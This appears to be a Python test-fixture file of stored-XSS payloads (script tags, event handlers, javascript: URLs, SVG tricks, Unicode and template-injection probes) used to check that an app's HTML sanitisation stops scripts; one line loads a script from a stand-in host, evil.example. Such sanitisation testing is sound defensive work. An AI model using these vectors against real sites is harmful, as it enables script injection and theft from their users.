"""Stored-XSS payloads, shared by the HTML test and the browser test.

Every payload that could run sets `window.__xss` (directly or via alert/print hooks in the
browser test), so "no script ran" is one check in Chromium.
"""

SCRIPTS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<script>/*</script>*/window.__xss=1</script>",
    "-->\u003cscript>window.__xss=1</script><!--",
    "<![CDATA[<script>window.__xss=1</script>]]>",
]

HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror='window.__xss=1'>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<div onmouseover=window.__xss=1>hover</div>",
    '" onmouseover="window.__xss=1" x="',
    "' onmouseover='window.__xss=1' x='",
    '" autofocus onfocus="window.__xss=1" x="',
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<form><button formaction=javascript:window.__xss=1>x</button></form>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    "<link rel=stylesheet href=javascript:window.__xss=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<base href=javascript:window.__xss=1//>",
]

URLS = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "java\tscript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "<a href=javascript:window.__xss=1>klik</a>",
    "<a href='&#106;avascript:window.__xss=1'>klik</a>",
    "vbscript:msgbox(1)",
]

SVG_AND_MATH = [
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
]

UNICODE_TRICKS = [
    "LSM \u202egnp.exe\u202c Pelita",  # right-to-left override
    "\u200bLSM\u200d Pelita\ufeff",  # zero-width characters
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",  # fullwidth angle brackets
    "\u2028<img src=x onerror=window.__xss=1>\u2029",  # JS line separators
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "Yayasan \U0001f600 <b>tebal</b> \u0645\u0631\u062d\u0628\u0627",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "${7*7}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "#{7*7}",
]

PAYLOADS = SCRIPTS + HANDLERS + URLS + SVG_AND_MATH + UNICODE_TRICKS + TEMPLATES
